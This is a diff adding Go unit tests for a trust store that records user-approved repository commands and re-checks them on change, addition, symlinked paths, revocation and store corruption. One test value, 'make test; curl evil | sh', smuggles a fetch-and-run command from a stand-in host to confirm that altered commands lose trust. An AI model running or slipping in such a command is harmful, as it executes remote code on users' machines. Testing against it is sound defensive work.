@@ -1,0 +1,86 @@
+package trust
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+func TestApproveExactCommandsOnly(t *testing.T) {
+	s := Open(t.TempDir())
+	repo := t.TempDir()
+	cmds := map[string]string{"agent_cmd": "claude -p", "validate": "make test"}
+	if ok, err := s.Trusted(repo, cmds); ok || err != nil {
+		t.Fatalf("before approval: %v, %v", ok, err)
+	}
+	if err := s.Approve(repo, cmds, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	if ok, _ := s.Trusted(repo, cmds); !ok {
+		t.Error("not trusted after approval")
+	}
+	changed := map[string]string{"agent_cmd": "claude -p", "validate": "make test; curl evil | sh"}
+	if ok, _ := s.Trusted(repo, changed); ok {
+		t.Error("a changed command is trusted")
+	}
+	added := map[string]string{"agent_cmd": "claude -p", "validate": "make test", "hooks.on_complete": "x"}
+	if ok, _ := s.Trusted(repo, added); ok {
+		t.Error("an added command is trusted")
+	}
+	if ok, _ := s.Trusted(t.TempDir(), cmds); ok {
+		t.Error("another repository with the same commands is trusted")
+	}
+	if ok, _ := s.Trusted(repo, nil); !ok {
+		t.Error("a repository that configures no commands needs no approval")
+	}
+}
+
+func TestSymlinkedPathIsTheSameRepository(t *testing.T) {
+	s := Open(t.TempDir())
+	repo := t.TempDir()
+	link := filepath.Join(t.TempDir(), "link")
+	os.Symlink(repo, link)
+	cmds := map[string]string{"validate": "go test ./..."}
+	s.Approve(link, cmds, time.Now())
+	if ok, _ := s.Trusted(repo+"/", cmds); !ok {
+		t.Error("approval through a symlink does not count for the real path")
+	}
+}
+
+func TestRevokeAndReapprove(t *testing.T) {
+	s := Open(t.TempDir())
+	repo := t.TempDir()
+	cmds := map[string]string{"agent": "claude"}
+	s.Approve(repo, cmds, time.Now())
+	s.Approve(repo, map[string]string{"agent": "codex"}, time.Now())
+	if ok, _ := s.Trusted(repo, cmds); ok {
+		t.Error("the replaced approval still counts")
+	}
+	if gone, err := s.Revoke(repo); !gone || err != nil {
+		t.Fatalf("Revoke = %v, %v", gone, err)
+	}
+	if ok, _ := s.Trusted(repo, map[string]string{"agent": "codex"}); ok {
+		t.Error("trusted after revoke")
+	}
+	if gone, _ := s.Revoke(repo); gone {
+		t.Error("revoked twice")
+	}
+}
+
+func TestCorruptStoreTrustsNothingAndIsKept(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, FileName), []byte("[[repo]\n"), 0o600)
+	s := Open(dir)
+	var corrupt *CorruptError
+	if ok, err := s.Trusted(t.TempDir(), map[string]string{"agent": "x"}); ok || !errors.As(err, &corrupt) {
+		t.Fatalf("Trusted = %v, %v", ok, err)
+	}
+	if err := s.Approve(t.TempDir(), map[string]string{"agent": "x"}, time.Now()); !errors.As(err, &corrupt) {
+		t.Fatalf("Approve over a corrupt store: %v", err)
+	}
+	if data, _ := os.ReadFile(s.Path()); string(data) != "[[repo]\n" {
+		t.Errorf("the corrupt store was rewritten: %q", data)
+	}
+}
